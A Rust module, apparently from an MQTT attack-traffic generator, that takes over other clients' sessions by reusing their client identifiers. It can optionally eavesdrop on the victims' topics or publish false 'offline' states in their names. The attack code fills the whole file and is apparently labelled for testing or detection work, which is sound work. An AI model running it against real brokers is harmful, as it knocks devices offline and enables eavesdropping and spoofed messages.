//! Another client's identifier: the broker has to close the session of its owner (3.1.4-2), who comes back, and so on.

use std::time::{Duration, Instant};

use clap::Args;
use serde::{Deserialize, Serialize};

use super::manner::{Manner, Worker};
use super::{Deed, Meter, Place, defaults};
use crate::mqtt::session::Session;
use crate::stop::Stop;

/// What is done with a stolen session.
#[derive(Clone, Copy, PartialEq, Eq, Debug, Serialize, Deserialize, clap::ValueEnum)]
#[serde(rename_all = "kebab-case")]
pub enum Booty {
    /// Nothing: it is enough that the owner is out.
    Nothing,
    /// Subscribe to what the owner would get.
    Listen,
    /// Publish in the owner's name.
    Publish,
}

/// Options of the takeover.
#[derive(Clone, PartialEq, Debug, Serialize, Deserialize, Args)]
#[serde(default, deny_unknown_fields)]
pub struct Takeover {
    /// Takeovers in all
    #[arg(long, default_value_t = 40)]
    pub count: u32,
    /// Different victims; each worker goes round
    #[arg(long, default_value_t = 3)]
    pub victims: u32,
    /// What is done with a stolen session
    #[arg(long, value_enum, default_value = "nothing")]
    pub booty: Booty,
    /// Seconds for which each stolen session is kept
    #[arg(long, default_value_t = 0.2)]
    pub hold: f64,
    /// Keep the session that the owner left, instead of a clean one
    #[arg(long)]
    pub resume: bool,
    /// How it goes about it
    #[command(flatten)]
    pub manner: Manner,
}

impl Default for Takeover {
    fn default() -> Self {
        defaults()
    }
}

impl Deed for Takeover {
    fn label(&self) -> (&'static str, &'static str) {
        ("mqtt_tampering", "A8")
    }

    fn secs(&self) -> u32 {
        self.manner.secs
    }

    fn run(&self, place: &Place, stop: &Stop, meter: &Meter) {
        self.manner.work(place, stop, meter, self.count, |mut worker| {
            let mut names = place.victims();
            worker.random.shuffle(&mut names);
            names.truncate(self.victims.max(1) as usize);
            let mut held = Vec::new();
            while let Some(index) = worker.turn() {
                let name = &names[usize::try_from(index).unwrap_or(0) % names.len()];
                let mut hello = worker.hello(name);
                hello.clean = !self.resume;
                if let Some(mut session) = worker.connect_with(&hello, &hello.encode()) {
                    worker.tell(&self.use_it(&mut session, name, &worker));
                    held.push((Instant::now() + self.hold(), session));
                }
                // What has been held long enough is dropped without a word, as a broken client does.
                held.retain(|(until, _)| *until > Instant::now());
            }
            let last = held.iter().map(|(until, _)| *until).max();
            if let Some(last) = last {
                // Whether it is time to stop or the time has come: it is over.
                let _ = stop.sleep_until(last);
            }
        });
    }
}

impl Takeover {
    fn hold(&self) -> Duration {
        Duration::from_secs_f64(self.hold.clamp(0.0, 60.0))
    }

    fn use_it(&self, session: &mut Session, name: &str, worker: &Worker<'_>) -> std::io::Result<()> {
        match self.booty {
            Booty::Nothing => Ok(()),
            Booty::Listen => session.subscribe(&[(&format!("site/{name}/#"), 1), ("site/+/set", 0)]),
            Booty::Publish => session.publish(&format!("site/{name}/state"), b"offline", 0, false),
        }?;
        let until = Instant::now() + self.hold().min(Duration::from_millis(50));
        session.pump(until, worker.stop).map(drop)
    }
}
